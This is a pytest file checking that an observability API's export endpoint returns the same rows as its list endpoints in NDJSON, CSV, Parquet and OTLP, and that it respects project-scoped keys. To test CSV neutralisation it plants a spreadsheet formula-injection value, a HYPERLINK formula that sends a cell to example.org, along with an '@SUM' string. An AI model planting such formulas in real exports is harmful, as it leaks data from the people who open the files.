"""Exports through REST hold what the lists show, all of it, in every format."""

import csv
import io
import time
from typing import Any

import msgspec
import pyarrow.parquet as pq
import pytest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from api.rest.conftest import Rest
from api.views.span_lines import SECOND_NS, alert, content, message, mixed_spans, score, span
from lumina_api.access.principal import PRINCIPAL, Principal
from lumina_api.exporting import rows
from lumina_schemas.span import Span
from lumina_streams.core.otlp.document import message_of

NOW_NS = time.time_ns()
SPANS = mixed_spans(250, 7, NOW_NS - 5 * SECOND_NS)
FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


@pytest.fixture
def filled(rest: Rest, monkeypatch: pytest.MonkeyPatch) -> Rest:
    monkeypatch.setattr(rows, "PAGE_ROWS", 40)
    monkeypatch.setattr(rows, "TRACE_ROWS", 7)
    late = span(9001, start_ns=NOW_NS - SECOND_NS, input_messages=(), user_id=FORMULA, trace_id="f" * 32)
    rest.apply(
        rest.log.spans([*SPANS, late]),
        rest.log.scores([score(late)]),
        rest.log.alert(alert(1, summary="@SUM(1+1)")),
        rest.log.alert(alert(2, severity="critical")),
    )
    rest.apply(rest.log.spans([content(late, 3, input_messages=(message("user", "came later"),))]))
    return rest


def export(rest: Rest, **params: Any) -> bytes:
    response = rest.client.get("/api/v1/export", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].startswith('attachment; filename="lumina-')
    return response.content


def lines(body: bytes) -> list[Any]:
    return [msgspec.json.decode(line) for line in body.splitlines()]


def listed(rest: Rest, what: str, **params: Any) -> list[Any]:
    found: list[Any] = []
    cursor = None
    while True:
        page = rest.get(f"/api/v1/{what}", limit=100, **params, **({"cursor": cursor} if cursor else {}))
        found += page["items"]
        cursor = page["next_cursor"]
        if not cursor:
            return found


def test_ndjson_is_what_the_lists_show(filled: Rest) -> None:
    for what in ("calls", "alerts"):
        assert lines(export(filled, what=what)) == listed(filled, what)
    traces = lines(export(filled, what="traces"))
    assert [{k: v for k, v in trace.items() if k != "spans"} for trace in traces] == listed(filled, "traces")
    assert sum(len(trace["spans"]) for trace in traces) == len(SPANS) + 1
    assert all(len(trace["spans"]) == trace["span_count"] for trace in traces)


def test_filters_are_those_of_the_lists(filled: Rest) -> None:
    some = {"project": SPANS[0].project, "status": "error"}
    assert lines(export(filled, **some)) == listed(filled, "calls", **some)
    (critical,) = lines(export(filled, what="alerts", severity="critical"))
    assert critical["severity"] == "critical"
    filled.get("/api/v1/export", 422, what="alerts", model="x")
    filled.get("/api/v1/export", 422, what="calls", severity="critical")
    filled.get("/api/v1/export", 422, what="alerts", format="otlp")
    filled.get("/api/v1/export", 422, nothing=1)


def test_csv_runs_nothing_in_a_spreadsheet(filled: Rest) -> None:
    for what in ("calls", "traces", "alerts"):
        found = list(csv.DictReader(io.StringIO(export(filled, what=what, format="csv").decode())))
        assert len(found) == len(listed(filled, what))
        for row in found:
            for name, cell in row.items():
                number = cell.lstrip("-").replace(".", "").replace("e-", "").isdigit()
                assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    (row,) = [
        row
        for row in csv.DictReader(io.StringIO(export(filled, format="csv").decode()))
        if row["trace_id"] == "f" * 32
    ]
    assert row["user_id"] == f"'{FORMULA}"
    assert "came later" in row["input_messages"]


def test_parquet_holds_the_same_rows(filled: Rest) -> None:
    for what in ("calls", "traces", "alerts"):
        table = pq.read_table(io.BytesIO(export(filled, what=what, format="parquet")))
        items = listed(filled, what)
        key = "id" if what == "alerts" else "trace_id"
        assert table[key].to_pylist() == [item[key] for item in items]
        if what != "alerts":
            assert table["cost_usd"].to_pylist() == [item["cost_usd"] for item in items]
            assert table["start_ns"].to_pylist() == [item["start_ns"] for item in items]


def test_otlp_holds_all_spans_with_their_texts(filled: Rest) -> None:
    found: dict[str, Any] = {}
    for line in export(filled, what="traces", format="otlp").splitlines():
        request = message_of(line, ExportTraceServiceRequest)
        for resource in request.resource_spans:
            for scope in resource.scope_spans:
                found |= {one.span_id.hex(): one for one in scope.spans}
    sent = {one.span_id: one for one in SPANS}
    assert sent.keys() <= found.keys()
    assert len(found) == len(SPANS) + 1
    for name, one in sent.items():
        assert found[name].start_time_unix_nano == one.start_ns
        assert found[name].name == one.name
    (late,) = [one for one in found.values() if one.trace_id.hex() == "f" * 32]
    told = {pair.key: pair.value.string_value for pair in late.attributes}
    assert "came later" in told["gen_ai.input.messages"]
    calls = export(filled, format="otlp").splitlines()
    assert sum(
        len(scope.spans)
        for line in calls
        for resource in message_of(line, ExportTraceServiceRequest).resource_spans
        for scope in resource.scope_spans
    ) == len(listed(filled, "calls"))


def test_a_key_of_one_project_exports_that_one(filled: Rest) -> None:
    app = filled.client.app

    async def as_mail(scope: Any, receive: Any, send: Any) -> None:
        scope[PRINCIPAL] = Principal("k", frozenset({"read"}), "mail")
        await app(scope, receive, send)

    everything = {what: lines(export(filled, what=what)) for what in ("calls", "traces", "alerts")}
    filled.client._transport.app = as_mail  # type: ignore[attr-defined]
    for what, items in everything.items():
        assert lines(export(filled, what=what)) == [item for item in items if item["project"] == "mail"]
    assert b'"shop"' not in export(filled, what="traces", format="otlp")
    filled.get("/api/v1/export", 403, project="shop")
    filled.get("/api/v1/stream", 403, project="shop")


def test_an_export_of_nothing_is_a_file_too(rest: Rest) -> None:
    assert export(rest) == b""
    assert export(rest, format="csv").count(b"\n") == 1
    assert pq.read_table(io.BytesIO(export(rest, format="parquet"))).num_rows == 0


def test_a_row_is_the_record_that_it_was(filled: Rest) -> None:
    with filled.views.cursor() as cursor:
        found = cursor.execute("SELECT * FROM spans").fetchall()
        names = [column[0] for column in cursor.description or ()]
    by_id = {one.span_id: one for one in SPANS}
    for values in found:
        row = dict(zip(names, values, strict=True))
        if row["span_id"] in by_id:
            sent = by_id[row["span_id"]]
            same = msgspec.structs.replace(sent, priced=row["priced"], duplicate_of=row["duplicate_of"])
            assert isinstance(record := rows.record_of(row), Span)
            assert record == same
